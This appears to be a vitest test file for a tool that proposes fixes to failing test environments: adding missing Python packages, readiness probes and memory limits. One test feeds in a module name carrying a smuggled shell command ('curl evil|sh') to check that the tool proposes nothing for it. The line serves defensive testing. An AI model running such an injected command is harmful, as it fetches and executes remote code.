import { expect, test } from 'vitest';
import { patternFix } from '../../../src/healer/propose/pattern-fix.ts';
import { scopeFix } from '../../../src/healer/propose/scope-fix.ts';
import { makeFailure } from '../patterns/samples.ts';
import { firstText, proposals } from './case-of.ts';

const missing = makeFailure({ message: "ModuleNotFoundError: No module named 'yaml'" });

const yaml = `# what must hold
scope_id: shop
environment:
  type: docker
  image: taas/python  # pinned
scenarios:
  - { id: S, type: unit, execution: { runner: pytest, target: tests } }
`;

test('a missing module becomes a dependency of the scope, whose comments stay', async () => {
  expect(await firstText(patternFix, { scope: yaml, failures: [missing], cause: 'environment' })).toBe(
    yaml.replace('# pinned\n', '# pinned\n  dependencies:\n    pip:\n      - PyYAML\n'),
  );
});

test.each([
  ['["pytest"]', '["pytest", "PyYAML"]'],
  ['{ "pip": ["pytest"] }', '{ "pip": ["pytest", "PyYAML"] }'],
  ['{ "apt": ["jq"] }', '{ "apt": ["jq"], "pip": ["PyYAML"] }'],
])('dependencies %s become %s', async (before, after) => {
  const scope = (dependencies: string) => `{
  "scope_id": "s", // comment
  "environment": { "type": "docker", "image": "python:3.11", "dependencies": ${dependencies} },
  "scenarios": [{ "id": "S", "type": "unit", "command": "pytest" }],
}
`;
  expect(
    await firstText(patternFix, { scope: scope(before), failures: [missing], cause: 'environment' }),
  ).toBe(scope(after));
});

test('a requirements file gets the line, and one that nobody installs is named', async () => {
  const scope = (dependencies: string) =>
    `{ "scope_id": "s", "environment": { "type": "docker", "image": "x"${dependencies} }, "scenarios": [{ "id": "S", "type": "unit", "command": "pytest" }] }`;
  const files = { 'requirements.txt': 'pytest' };
  const listed = await proposals(patternFix, {
    scope: scope(', "dependencies": { "pip": "requirements.txt" }'),
    files,
    failures: [missing],
    cause: 'environment',
  });
  expect(listed[0]?.changes).toEqual([{ path: 'requirements.txt', text: 'pytest\nPyYAML\n' }]);
  expect(
    await firstText(scopeFix, { scope: scope(''), files, failures: [missing], cause: 'environment' }),
  ).toBe(scope(', "dependencies": { "pip": "requirements.txt" }'));
});

test('a package that is only guessed says so, and one with no possible name is not proposed', async () => {
  const [guess] = await proposals(patternFix, {
    failures: [makeFailure({ message: "ModuleNotFoundError: No module named 'frobnicate'" })],
    cause: 'environment',
  });
  expect(guess?.confidence).toBe(0.8);
  expect(guess?.reason).toContain('is a guess');
  const hostile = makeFailure({ message: "Cannot find module 'x;curl evil|sh'" });
  expect(await proposals(patternFix, { failures: [hostile], cause: 'environment' })).toEqual([]);
});

test('a background step that nobody waits for gets a probe of the port that was refused', async () => {
  const scope = `{
  "scope_id": "s",
  "environment": { "type": "docker", "image": "x" },
  "lifecycle": { "setup": [{ "command": "python -m http.server 8000", "background": true }, { "command": "redis-server", "background": true }] },
  "scenarios": [{ "id": "S", "type": "unit", "command": "pytest" }]
}
`;
  const refused = makeFailure({ message: 'Error: connect ECONNREFUSED 127.0.0.1:8000' });
  const found = await proposals(patternFix, { scope, failures: [refused], cause: 'environment' });
  expect(found.map(({ changes }) => changes[0]?.text)).toEqual([
    scope.replace('8000", "background": true }', '8000", "background": true, "ready": { "port": 8000 } }'),
  ]);
});

test('memory is raised to twice and four times', async () => {
  const full = makeFailure({
    message: '',
    isCase: false,
    status: 'out_of_memory',
    reason: 'memory_limit',
    exitCode: null,
  });
  const found = await proposals(scopeFix, { failures: [full], cause: 'environment' });
  expect(found.map(({ title }) => title)).toEqual([
    'scope: raise memory to 4GiB',
    'scope: raise memory to 8GiB',
  ]);
});

test('a scope whose file has changed since the run is not edited', async () => {
  const { contextOf } = await import('./case-of.ts');
  const { writeFile } = await import('node:fs/promises');
  const context = await contextOf({ failures: [missing], cause: 'environment' });
  await writeFile(context.case.report.scope.path as string, '{ "scope_id": "other" }');
  const found = [];
  for await (const one of patternFix.propose(context)) found.push(one);
  expect(found).toEqual([
    {
      strategy: 'pattern-fix',
      title: 'Add the package PyYAML to environment.dependencies.',
      whyNot: 'The scope was given as an object, or its file has changed since the run.',
    },
  ]);
});
